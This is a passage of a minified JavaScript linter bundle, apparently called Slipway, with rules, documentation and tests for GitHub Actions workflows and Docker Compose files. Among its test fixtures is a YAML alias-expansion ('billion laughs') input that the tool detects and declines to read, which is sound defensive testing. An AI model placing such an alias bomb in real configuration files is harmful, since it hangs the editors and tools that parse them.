`}]},Dv=zC;var KC={id:"value-type",language:["workflow","action"],severity:"error",compat:{actionlint:"syntax-check"},docs:{summary:"A value has the wrong type or is not one of the values GitHub accepts: a string where a mapping or list is required, `fail-fast: yes`, `timeout-minutes: 0`, an empty string where a name is required, an unknown `runs.using`, and so on. Empty sections are reported as warnings.",why:'GitHub refuses the workflow with "Unexpected value", usually without saying which type it wanted. Values inside `${{ }}` are left to the expression rules.',bad:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
    timeout-minutes: 0
    strategy:
      fail-fast: no
    steps:
      - run: make
`,good:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
    timeout-minutes: 10
    strategy:
      fail-fast: false
    steps:
      - run: make
`},check(n){Pe(n,"value-type")},tests:[{name:"booleans, numbers and positive numbers",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    continue-on-error: maybe
    timeout-minutes: true
    strategy:
      max-parallel: 0
      fail-fast: \${{ github.ref == 'x' }}
    steps:
      - run: echo
        timeout-minutes: -3.5
`,expect:[{line:5,col:24,message:"must be a boolean"},{line:6,col:22,message:"must be a number"},{line:8,col:21,message:'value at "max-parallel" must be greater than zero: 0'},{line:12,col:26,message:"greater than zero: -3.5"}]},{name:"mappings, sequences and strings",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    container:
      image: node
      ports: 80
      credentials: me
    steps:
      - uses: actions/checkout@v4
        with: ref
      - run: echo
        env:
          A:
            nested: map
`,expect:[{line:7,col:14,message:'"ports" section must be a sequence'},{line:8,col:20,message:'"credentials" section must be a mapping'},{line:11,col:15,message:'"with" section must be a mapping'},{line:15,col:13,message:'"A" section must be a string'}]},{name:"empty strings and sections",input:`on: push
jobs:
  a:
    runs-on: ""
    needs: []
    steps:
      - uses: ""
`,expect:[{line:4,col:14,message:"should not be an empty string"},{line:5,col:12,message:"should not be empty",severity:"warning"},{line:7,col:15,message:"should not be an empty string"}]},{name:"enums with a typo fix",path:"action.yml",input:`name: a
description: d
runs:
  using: node2O
  main: index.js
`,expect:[{line:4,col:10,message:'Did you mean "node20"'}],fixed:`name: a
description: d
runs:
  using: node20
  main: index.js
`},{name:"valid values, numbers as strings and expressions",input:`on: push
env:
  N: 1
  B: true
jobs:
  a:
    runs-on: [self-hosted, linux]
    timeout-minutes: \${{ inputs.t }}
    continue-on-error: true
    strategy:
      matrix: \${{ fromJSON(needs.x.outputs.m) }}
    steps:
      - run: echo
        timeout-minutes: 5
`,expect:[]},{name:"events as null or an empty mapping, filters as one string (GitHub accepts both)",input:`on:
  status: {}
  create:
  fork: {}
  repository_dispatch: {types: nightly}
  push: {branches: main, tags: v1, paths-ignore: docs/**}
  pull_request: null
  workflow_run: {workflows: CI, types: completed, branches-ignore: wip}
  registry_package: {types: published}
  image_version: {names: app, versions: v1}
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,expect:[]},{name:"an event filter still may not be a mapping, nor an event without filters a list",input:`on:
  repository_dispatch:
    types: {a: b}
  status: [x]
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,expect:[{line:3,col:12,message:'"types" section must be'},{line:4,col:11,message:'"status" event must be'}]}]},Fv=KC;var JC={id:"yaml-anchor",language:["workflow","action"],severity:"error",compat:{actionlint:"syntax-check"},docs:{summary:"YAML anchors GitHub Actions does not handle: the merge key `<<` (not supported), recursive aliases, anchors that are never used (info), and aliases that repeat more than can be checked (a warning).",why:"GitHub supports anchors and aliases but not the `<<` merge key, so a workflow that works with other YAML tools is rejected. An unused anchor is usually a forgotten alias. Aliases of aliases can make a small file stand for millions of steps; past 100,000 steps (GitHub runs at most 256 jobs) or 200,000 repeated nodes, Slipway says what it leaves unchecked instead of running out of time or memory.",bad:`on: push
jobs:
  test:
    runs-on: ubuntu-latest
    env: &env
      CI: true
    steps:
      - run: make test
  lint:
    runs-on: ubuntu-latest
    env:
      <<: *env
      LINT: true
    steps:
      - run: make lint
`,good:`on: push
jobs:
  test:
    runs-on: ubuntu-latest
    env: &env
      CI: true
    steps:
      - run: make test
  lint:
    runs-on: ubuntu-latest
    env: *env
    steps:
      - run: make lint
`},check(n){Pe(n,"yaml-anchor");let{model:e}=n,t=K(e).stepsLeftOut;if(t&&n.report({message:`aliased steps add up to ${t.total.toLocaleString("en")} steps, more than ${va.toLocaleString("en")}: the steps of job "${t.firstJobLeftOut.id}" and the jobs after it are not checked`,range:t.firstJobLeftOut.keyRange,severity:"warning"}),e.errors.length||!e.text.includes("&"))return;let s=new Map,i=new Set,r=o=>{if(Me(o)){let a=sn(e.doc,o);a&&i.add(a);return}if((L(o)||G(o)||F(o))&&o.anchor){let a=s.get(o.anchor)??[];a.push(o),s.set(o.anchor,a)}if(L(o)||G(o))for(let a of o.items)r(a);else Ae(o)&&(r(o.key),r(o.value))};r(e.doc.contents);for(let[o,a]of s)for(let c of a){if(i.has(c)||Me(c))continue;let l=e.text.lastIndexOf(`&${o}`,c.range?.[0]??0),u=l>=0?e.lines.range(l,l+o.length+1):e.rangeOf(c);n.report({message:`anchor "${o}" is defined but not used`,range:u,severity:"info"})}},tests:[{name:"merge keys",input:`on: push
env: &e
  A: 1
jobs:
  a:
    runs-on: ubuntu-latest
    env:
      <<: *e
    steps:
      - run: echo
`,expect:[{line:8,col:7,message:'does not support the YAML merge key "<<"'}]},{name:"unused anchor",input:`on: push
jobs:
  a:
    runs-on: &r ubuntu-latest
    steps:
      - run: echo
`,expect:[{line:4,col:14,message:'anchor "r" is defined but not used',severity:"info"}]},{name:"anchors used through aliases",input:`on: push
jobs:
  a:
    runs-on: &r ubuntu-latest
    steps: &s
      - run: echo
  b:
    runs-on: *r
    steps: *s
`,expect:[]}]},Tv=JC;var Lv=[tw,yw,bw,ww,vw,kw,xw,Uw,Vw,zw,Jw,Xw,Zw,Qw,ev,tv,nv,iv,rv,lv,uv,pv,dv,fv,hv,mv,bv,Rv,Ov,Sv,Mv,Av,Dv,Fv,Tv];var Iv={languages:["workflow","action"],parse:(n,e)=>new _n(n,e==="action"?"action":"workflow"),rules:[...bo,...Lv],isSuppressed:(n,e,t)=>wo(n,e,t)};var Wa=class extends Rs{};var ln=ie(require("node:path"));var XC={id:"compose-build-path",language:"compose",severity:"error",docs:{summary:"A service's `build` context folder and Dockerfile must exist (the context relative to the Compose file's folder, the Dockerfile relative to the context).",why:'`docker compose build` (and `up`) fails with "unable to prepare context: path not found" or "failed to read dockerfile" after a folder or file is renamed; nothing else checks this before you run it.',bad:`services:
  api:
    build:
      context: ./api
      dockerfile: Dockerfile.prod
`,good:`services:
  api:
    build:
      context: ./api
      dockerfile: Dockerfile
`,files:{"api/Dockerfile":`FROM node:20
`}},check({model:n,report:e,files:t,path:s}){if(!s)return;let i=ln.dirname(s);for(let r of Pa(n,s)){if(!r.contextAbs)continue;let o=a=>ln.relative(i,a).split(ln.sep).join("/")||".";if(!t.exists(r.contextAbs)){e({message:`service "${r.service}": build context "${r.context}" does not exist (looked for ${o(r.contextAbs)} beside the Compose file)`,range:n.rangeOf(r.contextNode??r.buildKey)});continue}r.dockerfileAbs&&(r.dockerfileGiven?t.exists(r.dockerfileAbs)||e({message:`service "${r.service}": Dockerfile "${r.dockerfileNode.value}" does not exist in the build context (looked for ${o(r.dockerfileAbs)})`,range:n.rangeOf(r.dockerfileNode)}):["Dockerfile","dockerfile","Containerfile"].some(a=>t.exists(ln.join(r.contextAbs,a)))||e({message:`service "${r.service}": the build context "${r.context}" has no Dockerfile (set build.dockerfile if it has another name)`,range:n.rangeOf(r.contextNode??r.buildKey)}))}},tests:[{name:"missing context and Dockerfile",input:`services:
  api:
    build: ./api
  web:
    build:
      context: ./web
      dockerfile: docker/Dockerfile.prod
  worker:
    build:
      context: ./worker
  root:
    build: {}
`,files:{"web/Dockerfile":`FROM nginx
`,"worker/main.py":`print(1)
`},expect:[{line:3,col:12,message:'service "api": build context "./api" does not exist'},{line:7,col:19,message:'Dockerfile "docker/Dockerfile.prod" does not exist in the build context (looked for web/docker/Dockerfile.prod)'},{line:10,col:16,message:'the build context "./worker" has no Dockerfile'},{line:12,col:5,message:'the build context "." has no Dockerfile'}]},{name:"existing paths, remote and interpolated contexts, inline Dockerfile",input:`services:
  api:
    build: ./api
  web:
    build:
      context: web
      dockerfile: ../docker/web.Dockerfile
  remote:
    build: https://github.com/docker/rootfs.git#main
  env:
    build: \${CTX:-./api}
  inline:
    build:
      context: ./api
      dockerfile_inline: |
        FROM alpine
  podman:
    build: ./pod
  lower:
    build: ./lower
`,files:{"api/Dockerfile":`FROM node
`,"web/index.html":"","docker/web.Dockerfile":`FROM nginx
`,"pod/Containerfile":`FROM alpine
`,"lower/dockerfile":`FROM alpine
`},expect:[]}]},Pv=XC;var Ba=ie(gt());var ZC=[["healthcheck","interval"],["healthcheck","timeout"],["healthcheck","start_period"],["healthcheck","start_interval"],["stop_grace_period"],["deploy","restart_policy","delay"],["deploy","restart_policy","window"],["deploy","update_config","delay"],["deploy","update_config","monitor"],["deploy","rollback_config","delay"],["deploy","rollback_config","monitor"]],QC=/^[-+]?(?:(?:\d+(?:\.\d*)?|\.\d+)(?:ns|us|µs|\u03bcs|ms|s|m|h))+$/;function e2(n){return n==="0"||QC.test(n)}var jv={ns:"ns",nanosecond:"ns",nanoseconds:"ns",us:"us",microsecond:"us",microseconds:"us",ms:"ms",msec:"ms",msecs:"ms",millisecond:"ms",milliseconds:"ms",s:"s",sec:"s",secs:"s",second:"s",seconds:"s",S:"s",m:"m",min:"m",mins:"m",minute:"m",minutes:"m",M:"m",h:"h",hr:"h",hrs:"h",hour:"h",hours:"h",H:"h"};function t2(n){let e=/^(\d+(?:\.\d+)?)\s*([a-zA-Zµ]+)$/.exec(n.trim());if(!e)return;if(/^(d|day|days)$/i.test(e[2]))return`${Number(e[1])*24}h`;let t=jv[e[2]]??jv[e[2].toLowerCase()];return t?`${e[1]}${t}`:void 0}var n2={id:"compose-duration",language:"compose",severity:"error",docs:{summary:"Durations (`healthcheck.interval`, `stop_grace_period`, `deploy.*.delay`, \u2026) must be Go durations such as `30s`, `1m30s` or `500ms`.",why:'`docker compose` refuses the file with "time: invalid duration"; units are written without a space and days are not a unit.',bad:`services:
  web:
    image: nginx
    healthcheck:
      test: ["CMD", "true"]
      interval: 30 sec
`,good:`services:
  web:
    image: nginx
    healthcheck:
      test: ["CMD", "true"]
      interval: 30s
`},check({model:n,report:e}){let t=n.doc,s=new Set;for(let i of ut(n).defs.service.values())for(let r of ZC){let o=W(t,i.pair.value);for(let p of r)o=(0,Ba.isMap)(o)?W(t,be(t,o,p)?.value):void 0;if(!(0,Ba.isScalar)(o)||typeof o.value!="string"||s.has(o))continue;s.add(o);let a=o.value;if(qe(a)||e2(a))continue;let c=n.rangeOf(o),l=t2(a),u=l?[{title:`Change to "${l}"`,preferred:!0,edits:[{range:c,newText:l}]}]:void 0;e({message:`${r.join(".")}: "${a}" is not a duration; write a number with a unit (ns, us, ms, s, m, h), e.g. 30s or 1m30s`+(l?`. Did you mean "${l}"?`:""),range:c,fixes:u})}},tests:[{name:"near misses with fixes",input:`services:
  web:
    image: nginx
    stop_grace_period: 1 minute
    healthcheck:
      interval: 30 sec
      timeout: 10secs
      start_period: 1d
`,expect:[{line:4,col:24,message:'Did you mean "1m"?'},{line:6,col:17,message:'interval: "30 sec" is not a duration'},{line:7,col:16,message:'Did you mean "10s"?'},{line:8,col:21,message:'Did you mean "24h"?'}],fixed:`services:
  web:
    image: nginx
    stop_grace_period: 1m
    healthcheck:
      interval: 30s
      timeout: 10s
      start_period: 24h
`},{name:"not a duration at all",input:`services:
  web:
    image: nginx
    deploy:
      restart_policy:
        delay: soon
`,expect:[{line:6,col:16}]},{name:"valid durations",input:`x-hc: &hc
  interval: 1m30s
  timeout: 500ms
services:
  web:
    image: nginx
    stop_grace_period: 0
    healthcheck:
      <<: *hc
      start_period: \${START:-10s}
      start_interval: 1.5s
    deploy:
      update_config:
        delay: 10s
        monitor: 2h45m
`,expect:[]}]},qv=n2;var Zp=`x-a0: &a0 [a, a, a, a, a, a, a, a, a, a]
`+[1,2,3,4].map(n=>`x-a${n}: &a${n} [${Array(10).fill(`*a${n-1}`).join(", ")}]
`).join("")+`services:
  db:
    image: postgres
`,s2={id:"compose-include",language:"compose",severity:"warning",docs:{summary:`A file named in \`include:\` (or the base file of an override file) whose anchors, aliases and merge keys expand beyond ${Ia.toLocaleString("en-US")} aliases is not read; the names it defines are then unknown, and references to them are not checked.`,why:'Anchors that alias each other, or long chains of `<<:` merge keys, make a small file stand for millions of values ("billion laughs"): reading it would freeze the editor at every keystroke. Such a file is also hard to read for people; flatten the chain or repeat the few keys instead.',bad:`include:
  - infra/compose.yaml
services:
  web:
    image: app
    depends_on: [db]
`,good:`include:
  - infra/db.yaml
services:
  web:
    image: app
    depends_on: [db]
`,files:{"infra/compose.yaml":Zp,"infra/db.yaml":`services:
  db:
    image: postgres
`}},check({model:n,report:e,path:t,files:s}){for(let i of As(n,t,s).tooComplex)e({message:`"${i.file}" is too complex to read: its anchors expand beyond ${Ia} aliases, so the services, networks, volumes, secrets and configs it defines are unknown here and references to them are not checked`,range:i.range})},tests:[{name:"an included file whose anchors fan out",input:`include:
  - infra/compose.yaml
  - path: [ok.yaml]
services:
  web:
    image: app
    depends_on: [db]
`,files:{"infra/compose.yaml":Zp,"ok.yaml":`services:
  db:
    image: postgres
`},expect:[{line:2,col:5,message:'"infra/compose.yaml" is too complex to read: its anchors expand beyond 10000 aliases'}]},{name:"a chain of merge keys",input:`include:
  - path: chain.yaml
services:
  web:
    image: app
`,files:{"chain.yaml":`x-0: &k0 {a0: 0}
`+Array.from({length:40},(n,e)=>`x-${e+1}: &k${e+1} {<<: *k${e}, a${e+1}: 1}
`).join("")+`services:
  db:
    image: postgres
`},expect:[{line:2,col:11,message:'"chain.yaml" is too complex to read'}]},{name:"the base file of an override file",path:"compose.override.yaml",input:`services:
  web:
    depends_on: [db]
`,files:{"compose.yaml":Zp},expect:[{line:1,col:1,message:'"compose.yaml" is too complex to read'}]},{name:"ordinary anchors and merge keys are read",input:`include:
  - infra/compose.yaml
services:
  web:
    image: app
    depends_on: [db]
`,files:{"infra/compose.yaml":`x-defaults: &defaults {restart: always}
x-db: &db-base {<<: *defaults, image: postgres}
services:
`+Array.from({length:300},(n,e)=>`  db${e||""}:
    <<: *db-base
`).join("")},expect:[]}]},Uv=s2;var i2={id:"compose-invalid-value",language:"compose",severity:"error",docs:{summary:"Values must have the type and form the Compose specification allows (a string where a string is expected, one of the allowed values, no duplicate list entries, valid names).",why:'`docker compose` refuses the file ("services.web.user must be a string"); unquoted numbers such as `user: 1000` and mistyped enum values are the usual cause.',bad:`services:
  web:
    image: app
    user: 1000
`,good:`services:
  web:
    image: app
    user: "1000"
`},check({model:n,report:e}){for(let t of Ms(n))t.kind==="invalid-value"&&e({message:t.message,range:t.range,fixes:t.fixes})},tests:[{name:"number where a string is expected",input:`services:
  web:
    image: app
    user: 1000
`,expect:[{line:4,col:11,message:"services.web.user must be a string, not an integer"}],fixed:`services:
  web:
    image: app
    user: "1000"
`},{name:"enum typo",input:`services:
  db:
    image: postgres
  web:
    image: app
    depends_on:
      db:
        condition: service_healty
`,expect:[{line:8,col:20,message:'Did you mean "service_healthy"?'}],fixed:`services:
  db:
    image: postgres
  web:
    image: app
    depends_on:
      db:
        condition: service_healthy
`},{name:"wrong shape",input:`services:
  web:
    image: app
    ports: "80:80"
    environment: A=1
`,expect:[{line:4,col:12,message:"services.web.ports must be a list, not a string"},{line:5,col:18,message:"services.web.environment must be a mapping or a list, not a string"}]},{name:"duplicate list entry",input:`services:
  web:
    image: app
    cap_add:
      - NET_ADMIN
      - NET_ADMIN
`,expect:[{line:6,col:9,message:'duplicate entry "NET_ADMIN"'}],fixed:`services:
  web:
    image: app
    cap_add:
      - NET_ADMIN
`},{name:"invalid service name",input:`services:
  my web:
    image: app
`,expect:[{line:2,col:3,message:'"my web" is not a valid name in services'}]},{name:"out of range",input:`services:
  web:
    image: app
    oom_score_adj: 2000
`,expect:[{line:4,col:20,message:"at most 1000"}]},{name:"valid short and long forms, interpolation, !reset",input:`services:
  web:
    image: app
    user: "1000:1000"
    build: .
    environment:
      - A=1
    ports:
      - 80
      - "443:443"
      - target: 8080
        published: \${PORT:-8080}
    restart: \${RESTART:-always}
    cpus: 0.5
    mem_limit: 512m
    labels:
      traefik.enable: true
    command: !reset null
`,expect:[]}]},Hv=i2;var r2={id:"compose-missing-key",language:"compose",severity:"error",docs:{summary:"Keys the Compose specification requires at a place (`extends.service`, `condition` in long `depends_on`, `type` of a long volume, \u2026) must be there.",why:'`docker compose` refuses the file with "missing property"; the long syntax forms each have a key they cannot do without.',bad:`services:
  db:
    image: postgres
  web:
    image: app
    depends_on:
      db:
        restart: true
`,good:`services:
  db:
    image: postgres
  web:
    image: app
    depends_on:
      db:
        condition: service_started
        restart: true
`},check({model:n,report:e}){for(let t of Ms(n))t.kind==="missing-key"&&e({message:t.message,range:t.range,fixes:t.fixes})},tests:[{name:"depends_on long form without condition",input:`services:
  db:
    image: postgres
  web:
    image: app
    depends_on:
      db:
        restart: true
`,expect:[{line:7,col:7,message:'services.web.depends_on.db is missing the required key "condition"'}]},{name:"long volume without type",input:`services:
  web:
    image: app
    volumes:
      - source: data
        target: /data
volumes:
  data:
`,expect:[{line:5,col:9,message:'services.web.volumes[0] is missing the required key "type"'}]},{name:"complete long forms",input:`services:
  db:
    image: postgres
  web:
    image: app
    depends_on:
      db:
        condition: service_healthy
    volumes:
      - type: volume
        source: data
        target: /data
volumes:
  data:
`,expect:[]}]},Yv=r2;var un=ie(gt());var Qp=["tcp","udp","sctp"];function Wv(n){let e=/^(\d+)(?:-(\d+))?$/.exec(n);if(!e)return;let t=Number(e[1]),s=e[2]===void 0?t:Number(e[2]);return[t,s]}function ed(n){let e=n.replace(/^\[(.*)\]$/,"$1"),t=/^(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})$/.exec(e);return t?t.slice(1).every(s=>Number(s)<=255):/^[0-9a-fA-F:.]+$/.test(e)&&e.includes(":")&&(e.match(/::/g)??[]).length<=1}function Ki(n){let e=[],t=n,s="tcp",i=n.lastIndexOf("/");i>=0&&(t=n.slice(0,i),s=n.slice(i+1),Qp.includes(s.toLowerCase())||e.push({message:`unknown protocol "${s}" (use tcp, udp or sctp)`,at:[i+1,s.length]}));let r=t.split(":"),o=r.length,a=r[o-1],c=o>=2?r[o-2]:"",l=o>=3?r.slice(0,o-2).join(":"):void 0,u=h=>r.slice(0,h).reduce((m,g)=>m+g.length+1,0);l!==void 0&&l!==""&&!ed(l)&&e.push({message:`"${l}" is not an IP address`,at:[0,l.length]});let p=[u(o-1),a.length],d=Wv(a);a?d?((d[0]<1||d[1]>65535)&&e.push({message:`container port ${a} is out of range (1-65535)`,at:p}),d[1]<d[0]&&e.push({message:`port range ${a} ends before it starts`,at:p})):e.push({message:`"${a}" is not a port or a port range`,at:p}):e.push({message:"the container port is missing",at:p});let f;if(c){let h=[u(o-2),c.length];f=Wv(c),f?(f[1]>65535&&e.push({message:`host port ${c} is out of range (0-65535)`,at:h}),f[1]<f[0]&&e.push({message:`port range ${c} ends before it starts`,at:h}),d&&d[1]!==d[0]&&f[1]-f[0]!==d[1]-d[0]&&e.push({message:`host range ${c} and container range ${a} have different lengths`,at:h})):e.push({message:`"${c}" is not a port or a port range`,at:h})}return{problems:e,parsed:e.length?void 0:{ip:l,host:f,container:d,protocol:s.toLowerCase()}}}function o2(n,e,t){let s=n.rangeOf(e);if(!t||!e.range||s.start.line!==s.end.line)return s;let i=n.text.slice(e.range[0],e.range[1]),r=String(e.value),o=i.indexOf(r);if(o<0)return s;let a=e.range[0]+o+t[0];return n.lines.range(a,a+Math.max(1,t[1]))}var a2={id:"compose-port-mapping",language:"compose",severity:"error",docs:{summary:"Port mappings must be valid: `[IP:][HOST:]CONTAINER[/PROTOCOL]` with ports 1-65535, ranges of equal length, tcp/udp/sctp, and sensible long-syntax fields.",why:'`docker compose up` fails with "invalid port" (or silently publishes something else) when a mapping has a typo, a port beyond 65535 or ranges that do not line up.',bad:`services:
  web:
    image: nginx
    ports:
      - "8080:80/tpc"
      - "3000-3005:3000-3001"
      - "70000:80"
`,good:`services:
  web:
    image: nginx
    ports:
      - "8080:80/tcp"
      - "3000-3001:3000-3001"
      - "7000:80"
`},check({model:n,report:e}){let t=n.doc;for(let s of ut(n).defs.service.values()){let i=W(t,s.pair.value);if(!(0,un.isMap)(i))continue;let r=lt(t,i).find(a=>et(a)==="ports"),o=W(t,r?.value);if((0,un.isSeq)(o))for(let a of o.items){let c=W(t,a);if((0,un.isScalar)(c)&&(typeof c.value=="string"||typeof c.value=="number")){let l=String(c.value);if(typeof c.value=="string"&&qe(l))continue;for(let u of Ki(l).problems)e({message:`invalid port mapping "${l}": ${u.message}`,range:o2(n,c,u.at)})}else if((0,un.isMap)(c))for(let l of lt(t,c)){let u=et(l),p=W(t,l.value);if(!(0,un.isScalar)(p)||p.value===null)continue;let d=String(p.value);if(typeof p.value=="string"&&qe(d))continue;let f=n.rangeOf(p);if(u==="target"||u==="published"){let h=/^(\d+)(?:-(\d+))?$/.exec(d),m=u==="target"?1:0;!h||u==="target"&&h[2]!==void 0?e({message:`${u}: "${d}" is not a port${u==="published"?" or a port range":""}`,range:f}):(Number(h[1])<m||Number(h[2]??h[1])>65535)&&e({message:`${u}: port ${d} is out of range (${m}-65535)`,range:f})}else u==="protocol"&&!Qp.includes(d.toLowerCase())?e({message:`protocol: unknown protocol "${d}" (use tcp, udp or sctp)`,range:f}):u==="mode"&&d!=="host"&&d!=="ingress"?e({message:`mode: "${d}" must be "host" or "ingress"`,range:f}):u==="host_ip"&&!ed(d)&&e({message:`host_ip: "${d}" is not an IP address`,range:f})}}}},tests:[{name:"short syntax mistakes",input:`services:
  web:
    image: nginx
    ports:
      - "8080:80/tpc"
      - "3000-3005:3000-3001"
      - "70000:80"
      - "8080:0"
      - "300.1.1.1:80:80"
      - "80:http"
      - 70000
`,expect:[{line:5,col:18,message:'invalid port mapping "8080:80/tpc": unknown protocol "tpc"'},{line:6,col:10,message:"different lengths"},{line:7,col:10,message:"host port 70000 is out of range"},{line:8,col:15,message:"container port 0 is out of range"},{line:9,col:10,message:'"300.1.1.1" is not an IP address'},{line:10,col:13,message:'"http" is not a port'},{line:11,col:9,message:"container port 70000"}]},{name:"long syntax mistakes",input:`services:
  web:
    image: nginx
    ports:
      - target: 80000
        published: "80-x"
        protocol: tcpp
        mode: bridge
        host_ip: localhost
`,expect:[{line:5,col:17,message:"target: port 80000 is out of range"},{line:6,col:20,message:'published: "80-x" is not a port or a port range'},{line:7,col:19,message:'unknown protocol "tcpp"'},{line:8,col:15,message:'must be "host" or "ingress"'},{line:9,col:18,message:"not an IP address"}]},{name:"valid forms",input:`services:
  web:
    image: nginx
    ports:
      - "3000"
      - "3000-3005"
      - 8000:8000
      - "9090-9091:8080-8081"
      - "8000-9000:80"
      - "127.0.0.1:8001:8001"
      - "127.0.0.1::5000"
      - "::1:6000:6000"
      - "[::1]:6001:6001"
      - "6060:6060/udp"
      - 5432
      - "\${PORT:-80}:80"
      - target: 80
        published: "8080-8081"
        protocol: udp
        mode: host
        host_ip: 0.0.0.0
`,expect:[]}]},Bv=a2;var kt=ie(gt());function c2(n){return n.map(e=>`${e.from}${e.to!==e.from?`-${e.to}`:""}${e.protocol!=="tcp"?`/${e.protocol}`:""}`).join(", ")}var l2={id:"compose-port-not-exposed",language:"compose",severity:"info",docs:{summary:"A published container port should be one the service's Dockerfile EXPOSEs, when that Dockerfile declares its ports.",why:'A mapping to a port the application does not listen on gives "connection reset" with no error anywhere; when the Dockerfile says `EXPOSE 3000` and Compose maps `8080:8080`, one of them is out of date.',bad:`services:
  api:
    build: ./api
    ports:
      - "8080:8080"
`,good:`services:
  api:
    build: ./api
    ports:
      - "8080:3000"
`,files:{"api/Dockerfile":`FROM node:20
EXPOSE 3000
CMD ["node", "server.js"]
`}},check({model:n,report:e,files:t,path:s}){let i=n.doc,r=ut(n).defs.service;for(let o of Pa(n,s)){let a=Iw(o,t);if(a===void 0)continue;let c=Lw(a,o.target);if(!c)continue;let l=W(i,r.get(o.service)?.pair.value);if(!(0,kt.isMap)(l))continue;let u=W(i,be(i,l,"expose")?.value),p=[...c];if((0,kt.isSeq)(u))for(let h of u.items){let m=W(i,h);if(!(0,kt.isScalar)(m))continue;let g=Ki(String(m.value)).parsed;g?.container&&p.push({from:g.container[0],to:g.container[1],protocol:g.protocol})}let d=(h,m,g)=>p.some(w=>w.protocol===g&&w.from<=h&&m<=w.to),f=W(i,lt(i,l).find(h=>et(h)==="ports")?.value);if((0,kt.isSeq)(f))for(let h of f.items){let m=W(i,h),g,w="tcp";if((0,kt.isScalar)(m)){let O=String(m.value);if(qe(O))continue;let S=Ki(O).parsed;if(!S?.container)continue;g=S.container,w=S.protocol}else if((0,kt.isMap)(m)){let O=W(i,be(i,m,"target")?.value),S=W(i,be(i,m,"protocol")?.value);if(!(0,kt.isScalar)(O)||!/^\d+$/.test(String(O.value)))continue;g=[Number(O.value),Number(O.value)],(0,kt.isScalar)(S)&&typeof S.value=="string"&&(w=S.value.toLowerCase())}if(!g||d(g[0],g[1],w))continue;let v=`${g[0]}${g[1]!==g[0]?`-${g[1]}`:""}${w!=="tcp"?`/${w}`:""}`;e({message:`service "${o.service}" publishes container port ${v}, but its Dockerfile only EXPOSEs ${c2(c)}`,range:n.rangeOf(m)})}}},tests:[{name:"mapped port not exposed (short and long syntax, target stage)",input:`services:
  api:
    build: ./api
    ports:
      - "8080:8080"
      - "9000:3000"
      - target: 4000
        published: 4000
  multi:
    build:
      context: ./multi
      target: dev
    ports:
      - "5000:5000"
`,files:{"api/Dockerfile":`FROM node:20
EXPOSE 3000
`,"multi/Dockerfile":`FROM node:20 AS base
EXPOSE 9229
FROM base AS dev
EXPOSE 3000
FROM base AS prod
EXPOSE 5000
`},expect:[{line:5,col:9,message:'service "api" publishes container port 8080, but its Dockerfile only EXPOSEs 3000',severity:"info"},{line:7,col:9,message:"container port 4000"},{line:14,col:9,message:"only EXPOSEs 3000, 9229"}]},{name:"exposed, ranges, protocol, expose: key, no EXPOSE at all, variables",input:`services:
  api:
    build: ./api
    ports:
      - "3000"
      - "8000-8001:8000-8001"
      - "53:53/udp"
      - "7000:7000"
    expose: ["7000"]
  plain:
    build: ./plain
    ports: ["80:80"]
  vars:
    build: ./vars
    ports: ["80:80"]
  inline:
    build:
      dockerfile_inline: |
        FROM nginx
        EXPOSE 80
    ports: ["8080:80"]
`,files:{"api/Dockerfile":`FROM node:20
EXPOSE 3000 8000-8010 53/udp
`,"plain/Dockerfile":`FROM nginx
`,"vars/Dockerfile":`FROM nginx
ARG PORT=8080
EXPOSE $PORT
`},expect:[]}]},Gv=l2;var u2={id:"compose-undefined-resource",language:"compose",severity:"error",docs:{summary:"Networks, named volumes, secrets, configs and models a service uses must be declared under the top-level `networks`, `volumes`, `secrets`, `configs` or `models`.",why:'`docker compose` refuses the file ("service \\"web\\" refers to undefined volume data"); a volume short syntax without `./` is a named volume, not a folder.',bad:`services:
  db:
    image: postgres
    volumes:
      - pgdata:/var/lib/postgresql/data
`,good:`services:
  db:
    image: postgres
    volumes:
      - pgdata:/var/lib/postgresql/data
volumes:
  pgdata:
`},check({model:n,report:e,path:t,files:s}){let i=ut(n),r;for(let o of i.refs){if(o.kind==="service"||i.defs[o.kind].has(o.name)||(r??=As(n,t,s),!r.complete||r.names[o.kind].has(o.name)))continue;let a=ae(o.name,[...i.defs[o.kind].keys(),...r.names[o.kind]]),c=o.kind==="volume"&&!a?` (declare it under the top-level "volumes", or write ./${o.name} for a folder beside the Compose file)`:` (declare it under the top-level "${La[o.kind]}")`;e({message:`service "${o.from}" refers to undefined ${o.kind} "${o.name}"`+(a?`. Did you mean "${a}"?`:c),range:o.range,fixes:a?[{title:`Change to "${a}"`,preferred:!0,edits:[{range:o.range,newText:a}]}]:void 0})}},tests:[{name:"undefined network, volume, secret, config",input:`services:
  web:
    image: app
    networks: [front]
    volumes:
      - data:/data
      - type: volume
        source: cache
        target: /cache
    secrets: [token]
    configs:
      - source: nginx_conf
        target: /etc/nginx/nginx.conf
`,expect:[{line:4,col:16,message:'undefined network "front"'},{line:6,col:9,message:'undefined volume "data"'},{line:8,col:17,message:'undefined volume "cache"'},{line:10,col:15,message:'undefined secret "token"'},{line:12,col:17,message:'undefined config "nginx_conf"'}]},{name:"typo in a named volume",input:`services:
  db:
    image: postgres
    volumes:
      - pgdta:/var/lib/postgresql/data
volumes:
  pgdata:
`,expect:[{line:5,col:9,message:'Did you mean "pgdata"?'}],fixed:`services:
  db:
    image: postgres
    volumes:
      - pgdata:/var/lib/postgresql/data
volumes:
  pgdata:
`},{name:"bind mounts, anonymous volumes, default network, declared names",input:`services:
  web:
    image: app
    networks:
      default: {}
      back:
        aliases: [api]
    volumes:
      - ./src:/src
      - /var/run/docker.sock:/var/run/docker.sock
      - ~/cache:/cache
      - /anonymous
      - \${DATA:-./data}:/data
      - logs:/logs:ro
    secrets:
      - source: token
        target: api_token
networks:
  back: {}
volumes:
  logs:
secrets:
  token:
    file: ./token.txt
`,expect:[]}]},Vv=u2;var p2={id:"compose-undefined-service",language:"compose",severity:"error",docs:{summary:"Services named in `depends_on`, `links`, `extends`, `volumes_from` and `network_mode`/`pid`/`ipc: service:\u2026` must be defined (in this file, a file it includes, or the base file of an override file).",why:'`docker compose` stops with "service \\"x\\" depends on undefined service \\"y\\"" (or a similar error) before starting anything; a renamed or misspelt service is the usual cause.',bad:`services:
  web:
    image: app
    depends_on:
      - databse
  database:
    image: postgres
